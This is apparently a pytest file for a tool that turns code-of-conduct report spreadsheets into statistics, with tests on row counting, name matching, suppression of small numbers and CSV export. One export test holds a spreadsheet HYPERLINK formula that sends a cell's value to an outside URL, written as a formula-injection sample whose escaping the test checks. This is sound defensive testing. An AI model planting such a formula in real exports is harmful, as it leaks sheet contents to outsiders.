"""Real failures of statistics, exports, values and names, from sheet to figures."""

from __future__ import annotations

from pathlib import Path

import pandas as pd

from cocsheets import csvtext
from cocsheets.figures.texts import text
from cocsheets.records.layout import locate
from cocsheets.records.reading import read_table
from cocsheets.records.schema import SchemaSettings, load_schema
from cocsheets.records.table import Row, Spreadsheet, Value, Worksheet
from cocsheets.statistics.choices import criterion
from cocsheets.statistics.criteria import by
from cocsheets.statistics.exchange import read_csv, to_csv
from cocsheets.statistics.frames import counts, frame, people
from cocsheets.statistics.summary import Mark
from cocsheets.statistics.suppression import suppress
from cocsheets.statistics.tables import yearly
from tests.figures.summaries import summary
from tests.records.sheets import HEADERS, SCHEMA, cells, day, table


def test_cs_18_blank_and_short_rows() -> None:
    """Rows of nothing are not counted, rows that end early are: four reports."""
    blanks: tuple[Value, ...] = ()
    rows = [cells(), blanks, cells(), ("  ", " "), cells()[:3], cells(), *[blanks] * 20]
    assert yearly(counts(read_table(table(*rows)).records)).total.values[0] == 4


def test_cs_20_hidden_rows_count_like_the_others() -> None:
    """Filters and hiding by hand change no figure."""
    rows = [Row(1, HEADERS)]
    rows += [Row(number, cells(), hidden=number in (3, 5, 6)) for number in range(2, 8)]
    sheet = Worksheet("Reports", 0, 0, tuple(rows))
    found = locate(Spreadsheet("K", "T", "UTC", "en_GB", (sheet,)), SCHEMA)
    assert yearly(counts(read_table(found).records)).total.values[0] == 6


def test_cs_23_text_that_looks_like_a_number_stays_text(tmp_path: Path) -> None:
    """Codes come through a frame and its CSV file as exactly the texts that they are."""
    codes = ("8085807e40000000", "1e5", "Infinity", "1_000", "007", "+44 0000 000000", "12,34")
    rows = [cells(named_subjects=code, subject_contacts=code, reporter="007") for code in codes]
    data = frame(read_table(table(*rows)).records, identifying=True)
    (tmp_path / "frame.csv").write_text(to_csv(data), encoding="utf-8")
    back = read_csv(tmp_path / "frame.csv")
    for one in (data, back):
        assert one["named_subjects"].tolist() == list(codes)
        assert one["reporter"].unique().tolist() == ["007"]
    assert yearly(data).total.values[1] == len(codes)


def test_cs_28_two_unicode_forms_of_a_name_are_one_person() -> None:
    """The repeat count is 2; the name without its accent is another person."""
    names = ("Jos\u00e9 Sample", "Jose\u0301 Sample", "Jose Sample")
    records = read_table(table(*(cells(named_subjects=name) for name in names))).records
    assert people(records)["reports"].tolist() == [2, 2, 1]
    assert by(frame(records), "people").total.values == (3, 2, 1, 0)


def test_cs_30_several_people_in_one_cell() -> None:
    """Three people in one cell, one of whom another report names too."""
    rows = (
        cells(named_subjects="Doe, Jane; Roe, Rik\nPoe & Co"),
        cells(named_subjects="Roe, Rik"),
    )
    records = read_table(table(*rows)).records
    assert yearly(counts(records)).total.values[1] == 4
    assert people(records)["reports"].tolist() == [1, 2, 1, 2]


def cs_52() -> pd.DataFrame:
    """Action by us in 2025: yes 11, no 1, no answer 6."""
    answers = ["Yes"] * 11 + ["No"] + [None] * 6
    rows = [cells(date_reported="2025-03-04", action_by_us=answer) for answer in answers]
    return counts(read_table(table(*rows)).records)


def test_cs_52_for_publication_and_for_the_committee() -> None:
    """Hidden with one more for the public; exact and marked for the committee."""
    exact = by(cs_52(), "action")
    committee = text(summary(exact))
    assert "Not for publication" in committee
    (public,) = suppress([exact])
    row = dict(zip((f.key for f in public.figures), public.rows[0].values, strict=True))
    assert row["reports"] == 18
    assert row["us_no"] is Mark.SMALL
    assert Mark.HIDDEN in (row["actions_by_us"], row["us_unanswered"])
    shown = text(summary(public))
    assert "<5" in shown
    assert "Not for publication" not in shown


def test_cs_53_cells_that_become_formulas_in_an_export(tmp_path: Path) -> None:
    """Each begins with an apostrophe in the file, one record a row, and reads back as it was."""
    link = '=HYPERLINK("https://example.net/?q="&B2,"click")'
    rows = (
        cells(named_subjects=link),
        cells(named_subjects="@handle"),
        cells(named_subjects="Ada Fixture", summary="+1 for a ban"),
        cells(named_subjects="Ada Fixture", subject_contacts="-"),
        cells(summary='Doe, "JJ" Jane\n2nd line'),
    )
    data = frame(read_table(table(*rows)).records, identifying=True)
    file = tmp_path / "frame.csv"
    file.write_text(to_csv(data), encoding="utf-8")
    plain = pd.read_csv(file, dtype="string")
    assert len(plain) == 5
    assert plain["named_subjects"][:2].tolist() == ["'" + link, "'@handle"]
    assert plain["summary"][2] == "'+1 for a ban"
    assert plain["summary"][4] == 'Doe, "JJ" Jane\n2nd line'
    pd.testing.assert_frame_equal(read_csv(file), data)
    assert csvtext.escape("-") == "'-"


def test_the_sheet_of_2026_from_cells_to_figures() -> None:
    """People of a case, resolutions and consequences come through the preset of that year."""
    schema = load_schema(SchemaSettings(preset="django-2026"))
    headers = tuple(column.header for column in schema.columns if not column.optional)
    rows = [
        ("home shelf", "Blue Jay", "DSF", "2025-03-20", "warned"),
        ("home shelf", "Red Fox", "DSF", "2025-03-30", "suspended"),
        ("stunned bulb", "Blue Jay", "local", "2025-03-30", "banned"),
        ("grey cup", "Owl", None, None, None),
    ]
    made = []
    for case, person, source, resolved, consequence in rows:
        values: dict[str, Value] = {
            "date_reported": day("2025-03-10"),
            "case_code_name": case,
            "named_subjects": person,
            "case_status": "resolved" if resolved else "ongoing",
            "resolution_source": source,
            "resolution_date": day(resolved) if resolved else None,
            "consequences": consequence,
        }
        made.append(tuple(values.get(c.key) for c in schema.columns if not c.optional))
    records = read_table(table(*made, schema=schema, headers=headers)).records
    data = frame(records, columns=["case_status"])
    assert yearly(data, "2026").total.values == (3, 4, 1, 1, 0, 0, 1, 1, 1, 0, 0)
    assert by(data, "people").total.values == (4, 3, 1, 0)
    resolution = by(data, "resolution")
    assert resolution.column("resolved") == {"2025": 2, "unknown": 1}
    assert resolution.total.values[1] == 20.0
    status = criterion(schema, "Status")
    assert by(data, status).total.values[:3] == (3, 1, 2)
